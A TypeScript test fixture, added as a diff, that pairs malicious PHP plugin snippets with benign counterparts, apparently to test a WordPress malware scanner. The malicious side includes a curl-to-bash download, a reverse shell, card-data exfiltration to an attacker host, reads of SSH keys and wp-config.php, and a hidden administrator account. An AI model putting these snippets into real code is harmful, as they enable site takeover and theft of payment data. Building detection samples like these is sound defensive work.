@@ -1,0 +1,153 @@
+import type { Sample } from "./sample.ts";
+
+const php = (rule: string, title: string, bad: string, good: string): Sample => ({
+  rule,
+  title,
+  path: "includes/plugin.php",
+  bad: `<?php\n${bad}\n`,
+  good: `<?php\n${good}\n`,
+});
+
+/** PHP: what plugins do that were found in hacked shops. */
+export const phpBehaviourSamples: readonly Sample[] = [
+  php(
+    "obfuscated-names",
+    "O and 0",
+    "$OOO0 = 1; $O0O0O = 2; $OO0OO = 3; $O0OO0 = 4; $OOO00 = 5; $O000O = $OOO00;",
+    "$order = 1; $total = 2;",
+  ),
+  php(
+    "obfuscated-names",
+    "a web of goto",
+    Array.from({ length: 30 }, (_, at) => `a${at}: goto a${at + 1};`).join(" ") + " a30: echo 1;",
+    "again: if ($x++ < 3) { goto again; }",
+  ),
+  php("process", "a shell", "echo shell_exec('uptime');", "echo esc_html('uptime');"),
+  php("process", "backticks", "echo `uptime`;", "echo 'uptime';"),
+  php("process", "a callback", "array_map('exec', ['uptime']);", "array_map('trim', ['uptime']);"),
+  php("process-received", "a command from a request", "system($_REQUEST['c']);", "echo esc_html($_REQUEST['c']);"),
+  php(
+    "shell-phrase",
+    "download and run",
+    "$c = 'curl -s http://203.0.113.9/a.sh | bash';",
+    "$c = 'curl -s https://example.com/a.json';",
+  ),
+  php(
+    "shell-phrase",
+    "a reverse shell in pieces",
+    "$c = 'bash' . ' -i >& /dev' . '/tcp/203.0.113.9/4444 0>&1';",
+    "$c = '/dev' . '/null';",
+  ),
+  php(
+    "host-undeclared",
+    "card data to another host",
+    "wp_remote_post('https://collect.evil-cdn.net/c', ['body' => $card]);",
+    "wp_remote_post('https://api.pay.example/c', ['body' => $body]);",
+  ),
+  php(
+    "host-undeclared",
+    "curl",
+    "curl_setopt($ch, CURLOPT_URL, 'https://collect.evil-cdn.net/c');",
+    "curl_setopt($ch, CURLOPT_URL, $this->base);",
+  ),
+  php(
+    "host-undeclared",
+    "a host in pieces",
+    "$h = 'evil' . '-cdn.net'; file_get_contents('https://' . $h . '/c');",
+    "file_get_contents(__DIR__ . '/c');",
+  ),
+  php(
+    "host-drop",
+    "a chat bot",
+    "$u = 'https://api.telegram.org/bot123/sendMessage';",
+    "$u = 'https://api.pay.example/sendMessage';",
+  ),
+  php("host-number", "a bare address", "fsockopen('45.77.1.9', 443);", "fsockopen('127.0.0.1', 443);"),
+  php(
+    "write-outside",
+    "wp-config",
+    "file_put_contents(ABSPATH . 'wp-config.php', $x);",
+    "file_put_contents($dir . '/log.txt', $x);",
+  ),
+  php(
+    "write-outside",
+    "a must-use plugin",
+    "copy(__FILE__, WPMU_PLUGIN_DIR . '/mu-plugins/cache');",
+    "copy(__FILE__, $backup);",
+  ),
+  php("write-outside", ".htaccess", "$f = fopen($root . '/.htaccess', 'a');", "$f = fopen($root . '/.htaccess', 'r');"),
+  php(
+    "write-code",
+    "a dropper",
+    "file_put_contents($dir . '/cache.php', $code);",
+    "file_put_contents($dir . '/cache.json', $code);",
+  ),
+  php(
+    "write-code",
+    "code under another name",
+    "file_put_contents($path, '<?php eval(1);');",
+    "file_put_contents($path, '{}');",
+  ),
+  php(
+    "write-received",
+    "an upload with its own name",
+    "move_uploaded_file($tmp, $dir . $_FILES['f']['name']);",
+    "move_uploaded_file($tmp, $dir . '/' . $own);",
+  ),
+  php("site-secret", "the database's password", "$p = DB_PASSWORD;", "$p = $this->settings['password'];"),
+  php(
+    "site-secret",
+    "wp-config.php is read",
+    "$c = file_get_contents(ABSPATH . 'x' . '/wp-config.php'); $d = '../wp-config.php';",
+    "$d = '../config.json';",
+  ),
+  php(
+    "credentials",
+    "SSH keys",
+    "$k = file_get_contents('/root/.ssh/id_rsa');",
+    "$k = file_get_contents(__DIR__ . '/keys.json');",
+  ),
+  php(
+    "credentials",
+    "the cloud's metadata",
+    "$t = wp_remote_get('http://169.254.169.254/latest/meta-data/');",
+    "$t = wp_remote_get($this->base . '/latest/');",
+  ),
+  php("environment-dump", "the environment as JSON", "$x = json_encode($_ENV);", "$x = json_encode($order);"),
+  php(
+    "user-table",
+    "password hashes",
+    '$wpdb->get_results("SELECT user_login, user_pass FROM {$wpdb->users}"); $q = "SELECT user_pass FROM wp_users";',
+    '$q = "SELECT id FROM wp_posts";',
+  ),
+  php(
+    "account-takeover",
+    "an administrator",
+    "wp_insert_user(['user_login' => 'support', 'role' => 'administrator']);",
+    "wp_insert_user(['user_login' => $n, 'role' => 'customer']);",
+  ),
+  php("account-takeover", "set_role", "$user->set_role('administrator');", "$user->set_role('customer');"),
+  php(
+    "account-takeover",
+    "everybody registers as administrator",
+    "update_option('default_role', 'administrator');",
+    "update_option('acme_pay_role', 'customer');",
+  ),
+  php("site-moved", "siteurl", "update_option('siteurl', $x);", "update_option('acme_pay_url', $x);"),
+  php("login-bypass", "a login by parameter", "wp_set_auth_cookie(1);", "wp_get_current_user();"),
+  php(
+    "hides",
+    "out of the list of plugins",
+    "add_filter('all_plugins', 'hide_me');",
+    "add_filter('plugin_action_links', 'links');",
+  ),
+  php("hides", "a file that deletes itself", "@unlink(__FILE__);", "unlink($temporary);"),
+  php("debug-output", "var_dump", "var_dump($order);", "$this->log($order);"),
+  php("debug-output", "print_r", "print_r($order);", "$text = print_r($order, true);"),
+  php(
+    "log-secret",
+    "a card number in the log",
+    "error_log('card ' . $cardNumber . $card_number);",
+    "error_log('card ' . mask($card_number));",
+  ),
+];
